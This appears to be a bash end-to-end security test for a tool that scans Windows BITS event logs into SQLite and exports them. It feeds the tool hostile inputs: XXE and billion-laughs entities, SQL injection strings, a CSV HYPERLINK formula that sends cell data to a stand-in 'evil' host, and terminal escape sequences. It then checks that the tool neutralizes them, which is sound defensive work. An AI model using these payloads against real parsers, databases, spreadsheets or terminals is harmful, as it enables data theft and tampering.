#!/usr/bin/env bash
# Hostile export end to end: scan --db, then query in every format; nothing injected, nothing lost, safe files.
# Backs the rows of SECURITY.md's table that need the whole program: entity declarations, XXE, deep nesting,
# oversized events, invalid UTF-8, control characters, SQL and CSV injection, terminal escapes, 100 KB URLs.
. "$(dirname "$0")/../lib/cli.sh"
command -v sqlite3 >/dev/null || { echo "sqlite3 shell not installed (scripts/setup.sh installs it)"; exit 77; }
command -v python3 >/dev/null || { echo "python3 not installed"; exit 77; }
# no_bytes FILE: FILE holds no C0 control but TAB/LF/CR, no DEL, no C1 control (UTF-8 C2 80..C2 9F),
# and no raw byte that is not UTF-8: nothing a terminal could take as an escape sequence.
no_bytes() {
    python3 - "$1" <<'PY'
import sys
data = open(sys.argv[1], "rb").read()
text = data.decode("utf-8")  # raises on invalid UTF-8
bad = [hex(ord(c)) for c in text if (ord(c) < 0x20 and c not in "\t\n\r") or 0x7F <= ord(c) < 0xA0]
if bad:
    print("  control characters on stdout:", bad[:10])
    sys.exit(1)
PY
}

# The hostile titles and URLs, written to files so that every later check compares with the exact bytes.
python3 - "$work" <<'PY'
import sys, os
work = sys.argv[1]
NS = 'xmlns="http://schemas.microsoft.com/win/2004/08/events/event"'
def system(eid, rec, computer="PC1", version=1):
    return ('<System><Provider Name="Microsoft-Windows-Bits-Client" Guid="{EF1CC15B-46C1-414E-BB95-E76B077BD51E}"/>'
            '<EventID>%d</EventID><Version>%d</Version><Level>4</Level>'
            '<TimeCreated SystemTime="2024-01-02T03:04:%02d.0000000Z"/><EventRecordID>%d</EventRecordID>'
            '<Channel>Microsoft-Windows-Bits-Client/Operational</Channel><Computer>%s</Computer>'
            '<Security UserID="S-1-5-18"/></System>' % (eid, version, rec % 60, rec, computer))
def esc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
def ev59(rec, job, title, url, computer="PC1", raw_title=None):
    t = raw_title if raw_title is not None else esc(title)
    return ('<Event %s>%s<EventData><Data Name="transferId">{AAAAAAAA-2222-3333-4444-%012d}</Data>'
            '<Data Name="name">%s</Data><Data Name="Id">{%s}</Data><Data Name="url">%s</Data><Data Name="peer"/>'
            '<Data Name="fileTime">2024-01-02T03:04:05Z</Data><Data Name="fileLength">1</Data>'
            '<Data Name="bytesTotal">1</Data><Data Name="bytesTransferred">0</Data>'
            '<Data Name="bytesTransferredFromPeer">0</Data></EventData></Event>\n'
            % (NS, system(59, rec, computer), rec, t, job, esc(url)))
def ev3(rec, job, title, path):
    return ('<Event %s>%s<EventData><Data Name="jobTitle">%s</Data><Data Name="jobId">{%s}</Data>'
            '<Data Name="jobOwner">PC1\\User</Data><Data Name="processPath">%s</Data><Data Name="processId">4242</Data>'
            '<Data Name="ClientProcessStartKey">1</Data></EventData></Event>\n'
            % (NS, system(3, rec, version=3), esc(title), job, esc(path)))

J1 = "11111111-1111-4111-8111-111111111111"
J2 = "22222222-2222-4222-8222-222222222222"
J3 = "33333333-3333-4333-8333-333333333333"
# SQL injection, a CSV formula, an 8-bit CSI (U+009B), quotes, a comma and a line break in one title.
title = "=HYPERLINK(\"http://evil/?\"&A1);'); DROP TABLE detections;--\u009b2J,\"x\"\nsecond line"
url = "http://45.33.32.156/" + "a" * 102400 + "?q=';DROP TABLE bookmarks;--"
path = "C:\\Users\\x\\'); DELETE FROM detections;--.exe"
hostile_url = "HTTP://0x2d.0x21.0x20.0x9d/b.exe"
parts = []
# 1. Billion laughs: an internal entity declaration, expanded a billion times if entities were on.
laughs = '<!DOCTYPE Event [<!ENTITY lol "lol">' + "".join(
    '<!ENTITY lol%d "%s">' % (i, ("&lol%d;" % (i - 1) if i > 1 else "&lol;") * 10) for i in range(1, 10)) + "]>\n"
parts.append(laughs.encode() + ev59(100, J3, None, "http://45.33.32.200/", raw_title="&lol9;").encode())
# 2. XXE: an external entity naming a local file.
parts.append(b'<!DOCTYPE Event [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
             + ev59(101, J3, None, "http://45.33.32.201/", raw_title="&xxe;").encode())
# 3. The job's event 3 (title, owner, process path), then its 59 with the 100 KB URL: one detection.
parts.append(ev3(1, J1, title, path).encode())
parts.append(ev59(2, J1, title, url).encode())
# 4. A raw ESC byte (not allowed in XML 1.0) and a character reference to it: malformed, skipped.
parts.append(ev59(102, J3, None, "http://45.33.32.202/", raw_title="a\x1b[31mred").encode())
parts.append(ev59(103, J3, None, "http://45.33.32.203/", raw_title="a&#x1B;]0;pwned&#x07;").encode())
# 5. Invalid UTF-8 in a value: malformed, skipped.
parts.append(ev59(104, J3, "x", "http://45.33.32.204/").encode().replace(b">x<", b">\xff\xfe\xc0\xaf<"))
# 6. Deep nesting: 100000 levels inside EventData (700 KB, under the size cap, over the depth limit of 256).
deep = ev59(105, J3, "deep", "http://45.33.32.205/")
deep = deep.replace("</EventData>", "<a>" * 100000 + "</a>" * 100000 + "</EventData>")
parts.append(deep.encode())
# 7. An oversized event: a 2 MiB value.
parts.append(ev59(106, J3, "big" * (700 * 1024), "http://45.33.32.206/").encode())
# 8. A second job from a hex-notation IPv4 URL, with a computer name carrying quotes.
parts.append(ev59(3, J2, "plain", hostile_url, computer="PC'; --").encode())
# 9. Last, an ordinary detection: proves the scan went on after every bad event.
parts.append(ev59(4, J3, "after the garbage", "http://45.33.32.157/last.exe").encode())
open(os.path.join(work, "hostile.xml"), "wb").write(b"".join(parts))
open(os.path.join(work, "title.txt"), "w", newline="").write(title)
open(os.path.join(work, "url.txt"), "w").write(url)
open(os.path.join(work, "path.txt"), "w").write(path)
PY

# Least privilege on Linux: the database a scan creates is never group- or world-writable, even with a
# permissive umask (SQLite's own creation mode applies), and the scan does not create a missing folder.
mkdir "$work/data"
db=$work/data/bits.db
expect_exit 1 bash -c "umask 000; exec \"\$0\" scan --json --db '$db' '$work/hostile.xml'" "$bin"
cp "$out" "$work/scan.json"
cp "$err" "$work/scan.err"
expect "scan: three detections (the last one after all the garbage)" test "$(wc -l <"$work/scan.json")" -eq 3
expect "scan: the summary counts 7 malformed events" grep -q ' 7 malformed events skipped' "$work/scan.err"
expect "scan: each malformed event reported with its position" test "$(grep -c ': event skipped: ' "$work/scan.err")" -eq 7
expect "scan: the oversized event is named as such" grep -q 'exceeds the size limit' "$work/scan.err"
expect "scan: no entity was expanded (no lol, no passwd)" bash -c "! grep -q 'lollol\|root:' '$work/scan.json' '$work/scan.err'"
expect "scan: stderr carries no control characters" no_bytes "$work/scan.err"
expect "scan --json: every line parses, hostile values verbatim" python3 - "$work/scan.json" "$work" <<'PY'
import json, sys, os
rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
w = sys.argv[2]
title = open(os.path.join(w, "title.txt"), newline="").read()
url = open(os.path.join(w, "url.txt")).read()
path = open(os.path.join(w, "path.txt")).read()
by = {r["job_id"]: r for r in rows}
a = by["11111111-1111-4111-8111-111111111111"]
assert a["job_title"] == title, repr(a["job_title"][:80])
assert a["url"] == url and len(a["url"]) > 102400
assert a["process_path"] == path
assert a["ip"] == "45.33.32.156"
b = by["22222222-2222-4222-8222-222222222222"]
assert b["ip"] == "45.33.32.157" and b["computer"] == "PC'; --", b
c = by["33333333-3333-4333-8333-333333333333"]
assert c["url"] == "http://45.33.32.157/last.exe"
PY
# (Not under Wine: Windows protects files with ACLs, which Wine maps to no mode bits; see SECURITY.md.)
if [ "${BG_TEST_PLATFORM:-}" != wine ]; then
    expect "db file is readable and writable by its owner only" bash -c "[ \$(( 0\$(stat -c %a '$db') & 077 )) -eq 0 ]"
    expect "no -wal/-shm readable by others" bash -c "for f in '$db'-wal '$db'-shm; do [ ! -e \"\$f\" ] || [ \$(( 0\$(stat -c %a \"\$f\") & 077 )) -eq 0 ] || exit 1; done"
fi
expect_exit 3 "$bin" scan --db "$work/missing/sub/bits.db" "$work/hostile.xml"
expect "the error names the path" grep -q "$work/missing/sub/bits.db" "$err"
expect "no folder created" test ! -e "$work/missing"

# The database holds the hostile values verbatim (prepared statements: no table dropped, nothing split).
expect "db: all tables survive the SQL injection strings" test "$(sqlite3 "$db" "SELECT count(*) FROM sqlite_master WHERE name IN ('detections','bookmarks')")" -eq 2
expect "db: three detections" test "$(sqlite3 "$db" 'SELECT count(*) FROM detections')" -eq 3
expect "db: the title byte for byte" test "$(sqlite3 "$db" "SELECT hex(job_title) FROM detections WHERE job_id = '11111111-1111-4111-8111-111111111111'")" = "$(python3 -c 'import sys; print(open(sys.argv[1], "rb").read().hex().upper())' "$work/title.txt")"
expect "db: the 100 KB URL byte for byte" test "$(sqlite3 "$db" "SELECT hex(url) FROM detections WHERE job_id = '11111111-1111-4111-8111-111111111111'")" = "$(python3 -c 'import sys; print(open(sys.argv[1], "rb").read().hex().upper())' "$work/url.txt")"

# Filters are bound parameters too: an injection string matches nothing and selects nothing extra.
expect_exit 0 "$bin" query --db "$db" --all --format json --computer "x' OR '1'='1"
expect "the injection selects nothing" test ! -s "$out"
expect_exit 0 "$bin" query --db "$db" --all --format json --computer "PC'; --"
expect "the exact hostile name selects its one row" test "$(wc -l <"$out")" -eq 1

# A local user who can write the file plants ESC sequences directly (no XML layer to reject them).
sqlite3 "$db" "UPDATE detections SET computer = 'PC' || char(27) || ']0;owned' || char(7) || char(27) || '[2J' WHERE job_id = '22222222-2222-4222-8222-222222222222'"
# ... and bytes that are not UTF-8 (the XML layer refuses them, the file does not).
sqlite3 "$db" "UPDATE detections SET job_title = CAST(X'41C328FFFEC0AF42' AS TEXT) WHERE job_id = '33333333-3333-4333-8333-333333333333'"

# query, table: readable, 100 columns, no control character or escape reaches the console.
expect_exit 0 "$bin" query --db "$db" --all
expect "table: header and three rows" test "$(wc -l <"$out")" -eq 4
expect "table: no ESC, C0 or C1 control, valid UTF-8 (planted bytes included)" no_bytes "$out"
expect "table: fits 100 columns" python3 -c 'import sys; sys.exit(max(len(l.rstrip("\n")) for l in open(sys.argv[1], encoding="utf-8")) > 100)' "$out"
# scan's own text output walks the same values through its own printer.
expect_exit 1 "$bin" scan "$work/hostile.xml"
expect "scan text: no control characters" no_bytes "$out"
expect "scan text: one line per detection" test "$(wc -l <"$out")" -eq 3

# query, CSV: RFC 4180, formulas neutralized, ESC and C1 controls replaced by '?', every other byte kept.
expect_exit 0 "$bin" query --db "$db" --all --format csv
expect "csv: cells parse back, formula neutralized, values otherwise verbatim" python3 - "$out" "$work" <<'PY'
import csv, sys, os
w = sys.argv[2]
title = open(os.path.join(w, "title.txt"), newline="").read()
url = open(os.path.join(w, "url.txt")).read()
csv.field_size_limit(10 * 1024 * 1024)
# Bytes that are not UTF-8 pass through CSV unchanged (a planted title): read them back as they are.
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8", errors="surrogateescape")))
head, body = rows[0], rows[1:]
assert len(body) == 3, len(body)
assert all(len(r) == len(head) for r in body)
col = {n: i for i, n in enumerate(head)}
a = [r for r in body if r[col["job_id"]] == "11111111-1111-4111-8111-111111111111"][0]
cell = a[col["job_title"]]
assert cell.startswith("'="), cell[:20]
assert cell[1:] == title.replace("\u009b", "?")
assert not any(c == "\x1b" or "\x80" <= c <= "\x9f" for r in body for v in r for c in v)
assert a[col["url"]] == url
for r in body:
    for v in r:
        assert not v or v[0] not in "=+-@\t\r" or v.lstrip("-").replace(".", "").isdigit(), v[:40]
PY

# query, JSON lines: every line parses; the planted escape comes back as \u001b, not as a raw byte.
expect_exit 0 "$bin" query --db "$db" --all --format json
expect "json: valid UTF-8 although a stored title is not" python3 -c 'import sys; open(sys.argv[1], "rb").read().decode("utf-8")' "$out"
expect "json: no raw control byte in the stream" bash -c "! LC_ALL=C grep -q '[[:cntrl:]]' <(tr -d '\n' <'$out')"
expect "json: every line parses, values verbatim" python3 - "$out" "$work" <<'PY'
import json, sys, os
w = sys.argv[2]
title = open(os.path.join(w, "title.txt"), newline="").read()
rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
assert len(rows) == 3
by = {r["job_id"]: r for r in rows}
assert by["11111111-1111-4111-8111-111111111111"]["job_title"] == title
assert by["22222222-2222-4222-8222-222222222222"]["computer"] == "PC\x1b]0;owned\x07\x1b[2J"
PY

# classify echoes the name it was given: the same terminal-safe printer.
expect_exit 0 "$bin" classify $'http://45.33.32.156/\x1b[2J\xc2\x9b31m\x07' $'\\\\10.0.0.1\\x\x1b]0;t'
expect "classify: no control characters" no_bytes "$out"

test_done
